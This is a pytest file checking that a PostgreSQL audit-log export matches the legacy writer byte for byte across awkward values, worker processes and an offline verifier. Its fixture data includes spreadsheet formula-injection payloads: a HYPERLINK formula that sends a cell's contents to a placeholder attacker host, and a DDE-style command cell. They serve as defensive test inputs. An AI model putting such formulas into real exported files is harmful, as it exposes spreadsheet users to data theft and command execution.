"""The PostgreSQL export writes, byte for byte, what the row-by-row writer writes.

`export.write_formats` over `values_list(*export.VALUES)` is how every export was written
before the PostgreSQL path existed (and how SQLite still writes one): the files the offline
verifier has always accepted. Here a ledger full of awkward values — non-ASCII, floats kept as
text, JSON numbers stored as numbers, nested and top-level JSON of every kind, nulls, empty
strings, quotes, commas, line breaks, control characters, cells a spreadsheet would run as a
formula, names with stray whitespace — is exported the new way, in one process and in worker
processes on one snapshot, and compared with that writer's bytes and summary.

The events are committed (workers read them through connections of their own) and sealed by the
sequencer as in production.
"""

import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from django.db import connection, transaction

from portal.audit import export, export_postgresql, selectors
from portal.audit.models import AuditEvent
from portal.audit.selectors import ExportFilters
from portal.audit.services import audit_record
from sites.roles import Role
from tests import ledger
from tests.factories import RegionFactory, SiteFactory, UserFactory, grant

pytestmark = [
    pytest.mark.skipif(
        connection.vendor != "postgresql", reason="the raw-cursor path is PostgreSQL's"
    ),
    pytest.mark.django_db(transaction=True),
]

TOOL = Path(__file__).resolve().parents[2] / "portal" / "audit" / "verify_export.py"
AWKWARD = (
    "",
    "plain",
    'Café chairs, "red"',
    "Not this quarter,\r\nsee me",
    "line\nbreak",
    "carriage\rreturn",
    '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "+31 20 123 4567",
    "-12.50",
    "@everyone",
    "\tindented",
    "\rreturned",
    "'quoted already",
    "''twice",
    "back\\slash \\n not a break",
    "control \x01\x08\x0b\x0c\x1f chars",
    "tab\tinside",
    "日本語のテキスト",
    "emoji 🙂 and ß",
    "line\u2028separator\u2029paragraph",
    "\u00a0non-breaking\u00a0",
    "null",
    "[1, 2]",
    '{"a": 1}',
    'ends with a quote"',
    "ends with a comma,",
    "x" * 190,
)
PENDING = "recorded, committed, not sealed yet"


@pytest.fixture
def awkward(monkeypatch):
    """A company-wide auditor, and a ledger of awkward events, every one of them sealed."""
    monkeypatch.setattr(export_postgresql, "_MIN_RANGE", 3)  # a small ledger still cut into ranges
    region = RegionFactory(code="RX", name='Région, "X"')
    sites = [
        SiteFactory(code="X1", name="Zürich, Hauptbahnhof", region=region),
        SiteFactory(code="X2", name='=cmd|" /C calc"!A0', region=region),
    ]
    auditor = UserFactory(username="chief.auditor", first_name="Ann", last_name="Dit")
    grant(auditor, Role.AUDITOR, region=region)
    people = [
        UserFactory(username="åsa", first_name="  Åsa ", last_name="\u00a0Öberg\t"),
        UserFactory(username="=nobody", first_name="", last_name=""),
        UserFactory(username="o'brien", first_name="Seán", last_name='O"Brien, Jr.'),
        UserFactory(username="-dash", first_name="\u3000", last_name="-"),
    ]
    for n, text in enumerate(AWKWARD):
        actor, behalf = people[n % len(people)], people[(n + 1) % len(people)]
        with transaction.atomic():
            audit_record(
                action="request.approved" if n % 2 else "audit.note",
                actor=actor if n % 5 else None,
                obj=sites[n % 2],
                site=sites[n % 2] if n % 3 else None,
                region=region,
                on_behalf_of=behalf if n % 4 == 1 else None,
                policy_version=(text or "v1")[:120],
                before={"state": text, "amount": 12.5, "at": None} if n % 6 else None,
                after={"nested": {"z": [1, -2, {"é": text, "": ""}], "a": [[], {}]}, "n": n},
                comment=text,
                context={"zz": text, "a": -1, "a_much_longer_key": [True, False, None]},
                reference=text,
            )
    # JSON as the database stores it, not only as audit_record normalises it: numbers that
    # jsonb rewrites, and top-level values of every kind, written through the model itself.
    values = [
        {"one": 1.0, "big": 10**20, "e": 1e16, "neg": -0.0, "tiny": 1e-7, "exp": 2.5e300},
        -5,
        "-text",
        [None, "=", {"b": 1, "a": 2, "aa": 3, "é": 4, "Z": 5}],
        True,
        None,
    ]
    for n, value in enumerate(values):
        AuditEvent.objects.create(
            action="import.raw",
            actor_label="tollgate",
            object_type="sites.site",
            object_id=str(n),
            object_reference=AWKWARD[n],
            site=sites[n % 2],
            before=value,
            after=values[-1 - n],
            comment=AWKWARD[-1 - n],
            context=value if value is not None else {},
        )
    ledger.seal_all()
    return auditor


def written_before(auditor, filters: ExportFilters, last_sequence: int) -> dict:
    """The files the row-by-row writer makes of the same events, and its summaries."""
    events = selectors.events_for_export(auditor, filters).filter(
        sequence__isnull=False, sequence__lte=last_sequence
    )
    outs = {fmt: io.BytesIO() for fmt in export.FORMATS}
    summaries = export.write_formats(events.values_list(*export.VALUES).iterator(), outs)
    return {fmt: (outs[fmt].getvalue(), summaries[fmt]) for fmt in export.FORMATS}


def first_difference(new: bytes, old: bytes) -> str:
    for number, (line, before) in enumerate(zip(new.splitlines(), old.splitlines(), strict=False)):
        if line != before:
            return f"line {number + 1}:\n new {line!r}\n old {before!r}"
    return f"lengths {len(new)} and {len(old)}"


def assert_same(manifest: dict, files: dict[str, bytes], reference: dict) -> None:
    for fmt, data in files.items():
        old, summary = reference[fmt]
        assert data == old, f"{fmt} differs at {first_difference(data, old)}"
        entry = next(f for f in manifest["files"] if f["format"] == fmt)
        assert entry["sha256"] == hashlib.sha256(data).hexdigest() == summary.digest.hexdigest()
    assert (
        manifest["row_count"],
        manifest["first_sequence"],
        manifest["first_hash"],
        manifest["last_sequence"],
        manifest["last_hash"],
        manifest["full_range"],
    ) == (
        summary.row_count,
        summary.first_sequence,
        summary.first_hash,
        summary.last_sequence,
        summary.last_hash,
        summary.full_range,
    )


@pytest.mark.parametrize("workers", [1, 2])
@pytest.mark.parametrize(
    "filters",
    [ExportFilters(), ExportFilters(sites=("X2",), kind="request")],
    ids=["everything", "one-site-and-kind"],
)
@pytest.mark.parametrize("fmt", export.FORMATS)
def test_the_export_is_byte_for_byte_the_row_by_row_writers(awkward, fmt, filters, workers):
    out, manifest_out = io.BytesIO(), io.BytesIO()

    manifest = export.audit_export(
        actor=awkward,
        filters=filters,
        fmt=fmt,
        out=out,
        manifest_out=manifest_out,
        data_name=f"events.{fmt}",
        workers=workers,
    )

    reference = written_before(awkward, filters, manifest["last_sequence"])
    assert manifest["row_count"] == reference[fmt][1].row_count > 5
    assert_same(manifest, {fmt: out.getvalue()}, reference)


def test_both_formats_of_one_read_are_the_row_by_row_writers(awkward):
    outs = {fmt: (f"events.{fmt}", io.BytesIO()) for fmt in export.FORMATS}

    manifest = export.audit_export_files(actor=awkward, outs=outs)

    reference = written_before(awkward, ExportFilters(), manifest["last_sequence"])
    assert manifest["full_range"] is True
    assert_same(manifest, {fmt: out.getvalue() for fmt, (_, out) in outs.items()}, reference)


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_the_verifier_accepts_an_export_written_by_workers(awkward, tmp_path, fmt):
    data, manifest = tmp_path / f"events.{fmt}", tmp_path / f"events.{fmt}.manifest.json"
    with data.open("wb") as out, manifest.open("wb") as manifest_out:
        result = export.audit_export(
            actor=awkward,
            filters=ExportFilters(),
            fmt=fmt,
            out=out,
            manifest_out=manifest_out,
            workers=2,
        )

    run = subprocess.run(
        [sys.executable, "-I", "-S", str(TOOL), str(data), str(manifest)],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert run.returncode == 0, run.stdout + run.stderr
    assert f"{result['row_count']} rows" in run.stdout
    assert "chain linked from its start" in run.stdout


def test_an_event_pending_seal_is_in_no_file_and_no_manifest(awkward):
    sealed = AuditEvent.objects.filter(sequence__isnull=False).count()
    pending = AuditEvent.objects.create(
        action="audit.note",
        actor_label="tollgate",
        object_type="sites.site",
        object_id="1",
        comment=PENDING,
    )
    out = io.BytesIO()

    manifest = export.audit_export(
        actor=awkward,
        filters=ExportFilters(),
        fmt="jsonl",
        out=out,
        manifest_out=io.BytesIO(),
        workers=2,
    )

    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert PENDING.encode() not in out.getvalue()
    assert manifest["row_count"] == len(rows) == sealed
    assert [row["sequence"] for row in rows] == list(range(1, sealed + 1))
    # Recording the export sealed the backlog: the pending event first, then the record.
    pending.refresh_from_db()
    assert pending.sequence == sealed + 1
    assert manifest["recorded_as_sequence"] == sealed + 2


def test_a_worker_that_cannot_read_fails_the_export_which_records_nothing(awkward, monkeypatch):
    refused = {**export_postgresql.worker_params("default")[0], "port": 1, "connect_timeout": 2}
    monkeypatch.setattr(export_postgresql, "worker_params", lambda alias: (refused, None))
    out = io.BytesIO()

    with pytest.raises(Exception, match="port 1"):
        export.audit_export(
            actor=awkward,
            filters=ExportFilters(),
            fmt="csv",
            out=out,
            manifest_out=io.BytesIO(),
            workers=2,
        )

    assert out.getvalue() == b""
    assert not AuditEvent.objects.filter(action="audit.exported").exists()
